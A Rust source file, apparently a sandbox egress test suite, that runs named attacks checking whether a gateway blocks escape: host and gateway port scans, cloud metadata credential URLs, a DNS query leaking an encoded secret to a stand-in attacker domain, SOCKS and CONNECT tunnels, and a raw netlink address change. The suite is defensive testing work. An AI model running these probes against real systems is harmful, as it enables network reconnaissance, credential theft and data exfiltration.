//! Ways past the gateway.
//!
//! A connection that opens proves nothing: where every address is answered by
//! the gateway itself, it is meant to open. What counts is who answers. The
//! host's own things say a token, the gateway says no in words of its own, and
//! the host looks afterwards whether anything reached it.

use std::collections::BTreeSet;
use std::fs;
use std::io::{self, Read as _, Write as _};
use std::net::{IpAddr, Ipv4Addr, SocketAddr, UdpSocket};
use std::sync::Mutex;
use std::thread;
use std::time::Duration;

use rustix::net::{AddressFamily, RecvFlags, SendFlags, SocketType, ipproto};

use super::listen::own_addresses;
use super::{Attack, AttackVerdict, Targets, attack};
use crate::names;
use crate::probe::fetch::{self, FetchAnswer, Way, exchange, fetch};

pub(super) const ATTACKS: &[Attack] = &[
    attack("C0", "allowed-request", "an allowed host, through the proxy and past it", allowed),
    attack("D8", "host-services", "services of the host, on each of its addresses", |targets| {
        let mut doors = targets.host.clone();
        let ports: BTreeSet<u16> = targets.host.iter().map(SocketAddr::port).collect();
        for near in neighbours() {
            doors.extend(ports.iter().map(|port| SocketAddr::new(near, *port)));
        }
        knock(&doors, targets)
    }),
    attack("D8", "host-by-name", "services of the host, by the names engines give it", by_name),
    attack("H3", "host-loopback", "services on the host's loopback", |targets| {
        knock(&targets.loopback, targets)
    }),
    attack("D8", "host-through-proxy", "services of the host, through the gateway", |targets| {
        let doors = targets.host.iter().chain(&targets.loopback).copied();
        through_proxy(&doors.collect::<Vec<_>>(), targets)
    }),
    attack("D8", "host-through-socks", "services of the host, through SOCKS", |targets| {
        through_socks(targets)
    }),
    attack("D8", "other-sandboxes", "another sandbox and its gateway", |targets| {
        knock(&targets.others, targets)
    }),
    attack("D8", "gateway-ports", "every port of the gateway up to 10000", gateway_ports),
    attack("G1", "gateway-control", "the gateway's control interface, by its own proxy", control),
    attack("D7", "metadata", "metadata services, directly", |_| metadata(Way::Direct)),
    attack("D7", "metadata-proxy", "metadata services, through the gateway", |_| {
        metadata(Way::Proxy)
    }),
    attack("D9", "ipv6", "addresses of IPv6, near and far", ipv6),
    attack("D10", "udp", "UDP to the host, and QUIC to the outside", udp),
    attack("D10", "icmp", "ICMP echo to the host", icmp),
    attack("D1", "leak-by-name", "a secret as a name, asked of every server here", leak),
    attack("D1", "names-elsewhere", "name servers elsewhere, over UDP and TCP", names_elsewhere),
    attack("D3", "names-over-tls", "DNS over TLS and over HTTPS", names_over_tls),
    attack("D11", "raw-address", "addresses of the outside without a name", raw_address),
    attack("D11", "without-proxy", "a host that no rule names, past the proxy", |_| {
        refused(
            &["http://evil.sluice-attack.example/", "https://evil.sluice-attack.example/"],
            Way::Direct,
        )
    }),
    attack("D11", "through-proxy", "a host that no rule names, through the proxy", |_| {
        refused(
            &["http://evil.sluice-attack.example/", "https://evil.sluice-attack.example/"],
            Way::Proxy,
        )
    }),
    attack("D8", "route-changes", "the routing table and the interfaces", routes),
];

/// No attack: what shows that the others failed for the right reason.
fn allowed(targets: &Targets) -> AttackVerdict {
    let Some(url) = &targets.allowed else {
        return AttackVerdict::Untried("no allowed host was named".to_owned());
    };
    for way in [Way::Proxy, Way::Direct] {
        match fetch(&format!("{url}/{}", targets.token), way) {
            Ok(answer) if answer.status == 200 && answer.body.contains(&targets.token) => {}
            Ok(answer) => return AttackVerdict::broken(format_args!("{way:?}: {}", code(&answer))),
            Err(err) => return AttackVerdict::broken(format_args!("{way:?}: {err}")),
        }
    }
    AttackVerdict::held("it answered both ways")
}

/// Knocks at every door at once; broken if one of them says the token.
fn knock(doors: &[SocketAddr], targets: &Targets) -> AttackVerdict {
    if doors.is_empty() {
        return AttackVerdict::Untried("no such target was named".to_owned());
    }
    let open = Mutex::new(Vec::new());
    thread::scope(|scope| {
        for door in doors {
            let open = &open;
            scope.spawn(move || {
                let Ok(mut stream) = fetch::knock(*door, Duration::from_secs(3)) else {
                    return;
                };
                drop(stream.set_read_timeout(Some(Duration::from_secs(3))));
                // A service that tells back what it is asked says the token too.
                let path = format!("/{}", targets.token);
                let said = exchange(&mut stream, &door.to_string(), &path);
                if said.is_ok_and(|answer| answer.body.contains(&targets.token)) {
                    open.lock().unwrap_or_else(std::sync::PoisonError::into_inner).push(*door);
                }
            });
        }
    });
    let open = open.into_inner().unwrap_or_else(std::sync::PoisonError::into_inner);
    match open.is_empty() {
        true => AttackVerdict::held(format_args!("none of {} answered", doors.len())),
        false => AttackVerdict::broken(format_args!("reached: {open:?}")),
    }
}

/// Addresses nearby that may be the host's: the next hop, and the first and last
/// of our own small network.
fn neighbours() -> Vec<IpAddr> {
    let mut near = Vec::new();
    let table = fs::read_to_string("/proc/net/route").unwrap_or_default();
    for line in table.lines().skip(1) {
        let hop = line.split_whitespace().nth(2).and_then(|hop| u32::from_str_radix(hop, 16).ok());
        if let Some(hop) = hop.filter(|hop| *hop != 0) {
            near.push(IpAddr::from(Ipv4Addr::from(hop.swap_bytes())));
        }
    }
    for own in own_addresses() {
        if let IpAddr::V4(own) = own {
            let own = u32::from(own);
            for low in 1..8 {
                let neighbour = (own & !7) | low;
                if neighbour != own {
                    near.push(Ipv4Addr::from(neighbour).into());
                }
            }
        }
    }
    near.sort_unstable();
    near.dedup();
    near
}

fn by_name(targets: &Targets) -> AttackVerdict {
    let names = ["host.docker.internal", "host.containers.internal", "gateway.docker.internal"];
    let mut doors = Vec::new();
    for address in names.iter().filter_map(|name| names::address_of(name).ok()) {
        let ports = targets.host.iter().chain(&targets.loopback).map(SocketAddr::port);
        doors.extend(ports.map(|port| SocketAddr::new(address, port)));
    }
    doors.sort_unstable();
    doors.dedup();
    match doors.is_empty() {
        true => AttackVerdict::held("these names lead nowhere"),
        false => knock(&doors, targets),
    }
}

fn through_proxy(doors: &[SocketAddr], targets: &Targets) -> AttackVerdict {
    let mut said = Vec::new();
    for door in doors {
        match fetch(&format!("http://{door}/"), Way::Proxy) {
            Ok(answer) if answer.body.contains(&targets.token) => {
                return AttackVerdict::broken(format_args!("reached {door} with http://"));
            }
            Ok(answer) => said.push(code(&answer)),
            Err(err) => said.push(err.to_string()),
        }
        match tunnel(&door.to_string()) {
            Ok(answer) if answer.body.contains(&targets.token) => {
                return AttackVerdict::broken(format_args!("reached {door} with CONNECT"));
            }
            Ok(answer) => said.push(code(&answer)),
            Err(err) => said.push(err.to_string()),
        }
    }
    AttackVerdict::held(distinct(&said))
}

/// A tunnel to `wanted`, and a plain request in it.
fn tunnel(wanted: &str) -> io::Result<FetchAnswer> {
    let gateway = gateway()?;
    let mut stream = fetch::connect(SocketAddr::new(gateway, PROXY))?;
    let answer = fetch::open_tunnel(&mut stream, wanted)?;
    if answer.status != 200 {
        return Ok(answer);
    }
    exchange(&mut stream, wanted, "/")
}

fn through_socks(targets: &Targets) -> AttackVerdict {
    let gateway = match gateway() {
        Ok(gateway) => gateway,
        Err(err) => return AttackVerdict::held(err),
    };
    let mut said = Vec::new();
    for door in targets.host.iter().chain(&targets.loopback) {
        let SocketAddr::V4(at) = door else { continue };
        let talk = || -> io::Result<String> {
            let mut stream = fetch::connect(SocketAddr::new(gateway, SOCKS))?;
            stream.write_all(&[5, 1, 0])?;
            let mut hello = [0; 2];
            stream.read_exact(&mut hello)?;
            let mut wanted = vec![5, 1, 0, 1];
            wanted.extend(at.ip().octets());
            wanted.extend(at.port().to_be_bytes());
            stream.write_all(&wanted)?;
            let mut reply = [0; 10];
            stream.read_exact(&mut reply)?;
            match reply {
                [_, 0, ..] => exchange(&mut stream, &door.to_string(), "/").map(|got| got.body),
                [_, why, ..] => Ok(format!("reply {why}")),
            }
        };
        match talk() {
            Ok(text) if text.contains(&targets.token) => {
                return AttackVerdict::broken(format_args!("reached {door}"));
            }
            Ok(text) => said.push(text.chars().take(40).collect()),
            Err(err) => said.push(err.to_string()),
        }
    }
    AttackVerdict::held(distinct(&said))
}

fn gateway_ports(_: &Targets) -> AttackVerdict {
    let gateway = match gateway() {
        Ok(gateway) => gateway,
        Err(err) => return AttackVerdict::held(err),
    };
    let open = Mutex::new(BTreeSet::new());
    thread::scope(|scope| {
        for part in 0..8_u16 {
            let open = &open;
            scope.spawn(move || {
                for port in (1..=10_000_u16).filter(|port| port % 8 == part) {
                    let at = SocketAddr::new(gateway, port);
                    if fetch::knock(at, Duration::from_millis(500)).is_ok() {
                        open.lock().unwrap_or_else(std::sync::PoisonError::into_inner).insert(port);
                    }
                }
            });
        }
    });
    let open = open.into_inner().unwrap_or_else(std::sync::PoisonError::into_inner);
    let beyond: Vec<_> =
        open.iter().filter(|port| ![53, 80, 443, PROXY, SOCKS].contains(port)).collect();
    match beyond.is_empty() {
        true => AttackVerdict::held(format_args!("open: {open:?}, which are its own")),
        false => AttackVerdict::broken(format_args!("open beside its own: {beyond:?}")),
    }
}

fn control(_: &Targets) -> AttackVerdict {
    if fs::symlink_metadata("/control").is_ok() {
        return AttackVerdict::broken("/control is there");
    }
    refused(
        &[
            "http://gateway.sluice/status",
            "http://gateway.sluice:3128/status",
            "http://127.0.0.1:3128/status",
            "http://localhost/metrics",
        ],
        Way::Proxy,
    )
}

/// Of every cloud; by address and by name.
fn metadata(way: Way) -> AttackVerdict {
    refused(
        &[
            "http://169.254.169.254/latest/meta-data/",
            "http://169.254.170.2/v2/credentials/",
            "http://100.100.100.200/latest/meta-data/",
            "http://168.63.129.16/machine/",
            "http://[fd00:ec2::254]/latest/meta-data/",
            "http://[fe80::a9fe:a9fe]/latest/meta-data/",
            "http://metadata.google.internal/computeMetadata/v1/",
        ],
        way,
    )
}

/// Nobody but the gateway answers, and what it says is no.
fn refused(urls: &[&str], way: Way) -> AttackVerdict {
    let mut said = Vec::new();
    for url in urls {
        match fetch(url, way) {
            Ok(answer) if answer.is_refusal() => said.push(code(&answer)),
            Ok(FetchAnswer { status, .. }) => {
                return AttackVerdict::broken(format_args!("{url} answered {status}"));
            }
            Err(err) => said.push(err.to_string()),
        }
    }
    AttackVerdict::held(distinct(&said))
}

fn ipv6(_: &Targets) -> AttackVerdict {
    let table = fs::read_to_string("/proc/net/if_inet6").unwrap_or_default();
    let beyond: Vec<_> =
        table.lines().filter(|line| line.split_whitespace().last() != Some("lo")).collect();
    if !beyond.is_empty() {
        return AttackVerdict::broken(format_args!(
            "this sandbox has addresses: {}",
            beyond.join("; ")
        ));
    }
    let mut said = Vec::new();
    for far in ["[2001:db8::1]:443", "[2001:db8::1]:80", "[fe80::1]:80", "[ff02::1]:80"] {
        let Ok(at) = far.parse::<SocketAddr>() else { continue };
        match fetch::knock(at, Duration::from_secs(2)) {
            Ok(mut stream) => {
                let answered = exchange(&mut stream, "evil.sluice-attack.example", "/");
                if answered.as_ref().is_ok_and(|answer| !answer.is_refusal()) {
                    return AttackVerdict::broken(format_args!("{far} answered"));
                }
                said.push("captured, and refused".to_owned());
            }
            Err(err) => said.push(err.to_string()),
        }
    }
    AttackVerdict::held(distinct(&said))
}

fn udp(targets: &Targets) -> AttackVerdict {
    let mut doors = targets.host_udp.clone();
    let ports: BTreeSet<u16> = doors.iter().map(SocketAddr::port).collect();
    for near in neighbours() {
        doors.extend(ports.iter().map(|port| SocketAddr::new(near, *port)));
    }
    doors.push((Ipv4Addr::new(203, 0, 113, 7), 443).into());
    let mut answered = Vec::new();
    let mut sent = 0;
    let Ok(socket) = UdpSocket::bind((Ipv4Addr::UNSPECIFIED, 0)) else {
        return AttackVerdict::held("no UDP at all");
    };
    drop(socket.set_read_timeout(Some(Duration::from_secs(2))));
    for door in &doors {
        // What a QUIC client's first packet begins with.
        let mut packet = vec![0xc0, 0, 0, 0, 1, 8, 1, 2, 3, 4, 5, 6, 7, 8, 0, 0];
        packet.resize(1200, 0);
        sent += u32::from(socket.send_to(&packet, door).is_ok());
    }
    let mut buffer = [0; 2048];
    while let Ok((_, from)) = socket.recv_from(&mut buffer) {
        answered.push(from);
    }
    match answered.is_empty() {
        true => AttackVerdict::held(format_args!("{sent} of {} sent, no answer", doors.len())),
        false => AttackVerdict::broken(format_args!("answered: {answered:?}")),
    }
}

/// With the kind of socket that takes no privilege.
fn icmp(targets: &Targets) -> AttackVerdict {
    let opened = rustix::net::socket(AddressFamily::INET, SocketType::DGRAM, Some(ipproto::ICMP));
    let socket = match opened {
        Ok(socket) => socket,
        Err(err) => return AttackVerdict::held(io::Error::from(err)),
    };
    let patience = Some(Duration::from_secs(2));
    let _set = rustix::net::sockopt::set_socket_timeout(
        &socket,
        rustix::net::sockopt::Timeout::Recv,
        patience,
    );
    let hosts: BTreeSet<IpAddr> = targets.host.iter().map(SocketAddr::ip).collect();
    if hosts.is_empty() {
        return AttackVerdict::Untried("no address of the host was named".to_owned());
    }
    // An address that is our own here, as where every one is, is answered by this sandbox.
    let is_own = |host: &IpAddr| UdpSocket::bind((*host, 0)).is_ok();
    let hosts: Vec<IpAddr> = hosts.into_iter().filter(|host| !is_own(host)).collect();
    if hosts.is_empty() {
        return AttackVerdict::held("every address is this sandbox's own");
    }
    let mut said = Vec::new();
    for host in &hosts {
        let echo = [8, 0, 0, 0, 0, 0, 0, 1, b's', b'l', b'u', b'i'];
        let to = SocketAddr::new(*host, 0);
        match rustix::net::sendto(&socket, &echo, SendFlags::empty(), &to) {
            Ok(_) => said.push("sent".to_owned()),
            Err(err) => said.push(io::Error::from(err).to_string()),
        }
    }
    let mut buffer = [0_u8; 256];
    match rustix::net::recv(&socket, &mut buffer[..], RecvFlags::empty()) {
        // Type 0 is an echo's reply; anything else says that there is no way.
        Ok((length, _)) if length > 0 && buffer.first() == Some(&0) => {
            AttackVerdict::broken("the host answered")
        }
        Ok(_) => AttackVerdict::held(format_args!("{}, and no echo", distinct(&said))),
        Err(_) => AttackVerdict::held(format_args!("{}, no answer", distinct(&said))),
    }
}

fn leak(_: &Targets) -> AttackVerdict {
    let gateway = match gateway() {
        Ok(gateway) => gateway,
        Err(err) => return AttackVerdict::held(err),
    };
    let mut servers = names::servers();
    servers.extend([IpAddr::from([127, 0, 0, 11]), gateway]);
    servers.dedup();
    let mut said = Vec::new();
    for server in servers {
        match names::ask(SocketAddr::new(server, 53), "c2VjcmV0.sluice-attack.example") {
            Ok(addresses) => {
                if let Some(other) = addresses.iter().find(|address| gateway != **address) {
                    return AttackVerdict::broken(format_args!("{server} knows it as {other}"));
                }
                said.push("answered with the gateway itself".to_owned());
            }
            Err(err) => said.push(err.to_string()),
        }
    }
    AttackVerdict::held(distinct(&said))
}

/// No answer may come but the gateway's own, which leads to itself.
fn names_elsewhere(targets: &Targets) -> AttackVerdict {
    let gateway = gateway().ok();
    let mut servers = targets.host_udp.clone();
    let hosts: BTreeSet<IpAddr> = targets.host_udp.iter().map(SocketAddr::ip).collect();
    servers.extend(hosts.iter().map(|host| SocketAddr::new(*host, 53)));
    servers.push((Ipv4Addr::new(203, 0, 113, 53), 53).into());
    let said = Mutex::new(Vec::new());
    let wrong = Mutex::new(Vec::new());
    thread::scope(|scope| {
        for server in &servers {
            let (said, wrong) = (&said, &wrong);
            scope.spawn(move || {
                let what = match names::ask(*server, "c2VjcmV0.sluice-attack.example") {
                    Ok(addresses) if addresses.iter().all(|a| gateway == Some((*a).into())) => {
                        "answered by the gateway".to_owned()
                    }
                    Ok(addresses) => {
                        let wrong = wrong.lock();
                        wrong
                            .unwrap_or_else(std::sync::PoisonError::into_inner)
                            .push(format!("{server}: {addresses:?}"));
                        "answered".to_owned()
                    }
                    Err(err) => err.to_string(),
                };
                said.lock().unwrap_or_else(std::sync::PoisonError::into_inner).push(what);
            });
        }
    });
    let wrong = wrong.into_inner().unwrap_or_else(std::sync::PoisonError::into_inner);
    if !wrong.is_empty() {
        return AttackVerdict::broken(wrong.join("; "));
    }
    AttackVerdict::held(distinct(
        &said.into_inner().unwrap_or_else(std::sync::PoisonError::into_inner),
    ))
}

fn names_over_tls(_: &Targets) -> AttackVerdict {
    let mut said = Vec::new();
    let outside = SocketAddr::from(([203, 0, 113, 53], 853));
    let mut doors = vec![outside];
    doors.extend(gateway().ok().map(|gateway| SocketAddr::new(gateway, 853)));
    for door in doors {
        match fetch::knock(door, Duration::from_secs(2)) {
            Ok(_) => return AttackVerdict::broken(format_args!("{door} is open")),
            Err(err) => said.push(err.to_string()),
        }
    }
    let query = "https://dns.sluice-attack.example/dns-query?dns=AAABAAABAAAAAAAAA3d3dwdleGFtcGxlA2NvbQAAAQAB";
    match refused(&[query], Way::Proxy) {
        AttackVerdict::Held(why) => AttackVerdict::held(format_args!("{}; {why}", distinct(&said))),
        broken => broken,
    }
}

/// Captured and refused where it can be, and unreachable elsewhere.
fn raw_address(_: &Targets) -> AttackVerdict {
    let mut said = Vec::new();
    for url in ["http://203.0.113.7/", "http://203.0.113.7:8080/", "http://198.51.100.7/"] {
        for way in [Way::Direct, Way::Proxy] {
            match fetch(url, way) {
                Ok(answer) if answer.is_refusal() => said.push(code(&answer)),
                Ok(FetchAnswer { status, .. }) => {
                    return AttackVerdict::broken(format_args!("{url} answered {status}"));
                }
                Err(err) => said.push(err.to_string()),
            }
        }
    }
    let at = SocketAddr::from(([203, 0, 113, 7], 443));
    match fetch::knock(at, Duration::from_secs(2)) {
        Ok(_) => said.push("443 is captured".to_owned()),
        Err(err) => said.push(err.to_string()),
    }
    AttackVerdict::held(distinct(&said))
}

/// Through the routing socket: a new address, which takes a capability.
fn routes(_: &Targets) -> AttackVerdict {
    // No protocol named is the routing table's.
    let socket = match rustix::net::socket(AddressFamily::NETLINK, SocketType::RAW, None) {
        Ok(socket) => socket,
        Err(err) => return AttackVerdict::held(io::Error::from(err)),
    };
    // RTM_NEWADDR, with an acknowledgement: 203.0.113.99/32 on interface 1.
    let mut message = Vec::new();
    message.extend(32_u32.to_ne_bytes());
    message.extend(20_u16.to_ne_bytes());
    message.extend(0x0405_u16.to_ne_bytes());
    message.extend([0; 8]);
    message.extend([2, 32, 0, 0]);
    message.extend(1_u32.to_ne_bytes());
    message.extend(8_u16.to_ne_bytes());
    message.extend(2_u16.to_ne_bytes());
    message.extend([203, 0, 113, 99]);
    let sent = rustix::net::send(&socket, &message, SendFlags::empty());
    if let Err(err) = sent {
        return AttackVerdict::held(io::Error::from(err));
    }
    let mut answer = [0_u8; 256];
    let patience = Some(Duration::from_secs(2));
    let _set = rustix::net::sockopt::set_socket_timeout(
        &socket,
        rustix::net::sockopt::Timeout::Recv,
        patience,
    );
    match rustix::net::recv(&socket, &mut answer[..], RecvFlags::empty()) {
        Ok(_) => {
            let code = answer.get(16..20).and_then(|code| code.try_into().ok());
            match code.map(i32::from_ne_bytes) {
                Some(0) => AttackVerdict::broken("an address was added"),
                Some(code) => AttackVerdict::held(io::Error::from_raw_os_error(-code)),
                None => AttackVerdict::held("the kernel said nothing"),
            }
        }
        Err(err) => AttackVerdict::held(io::Error::from(err)),
    }
}

fn gateway() -> io::Result<IpAddr> {
    names::in_hosts("gateway.sluice")
        .ok_or_else(|| io::Error::new(io::ErrorKind::NotFound, "there is no gateway"))
}

const PROXY: u16 = 3128;
const SOCKS: u16 = 1080;

fn code(answer: &FetchAnswer) -> String {
    let code = answer.code().unwrap_or_else(|| "no code".to_owned());
    format!("{} {code}", answer.status)
}

/// Each thing once, in order.
fn distinct(said: &[String]) -> String {
    let said: BTreeSet<&str> = said.iter().map(String::as_str).collect();
    said.into_iter().collect::<Vec<_>>().join("; ")
}
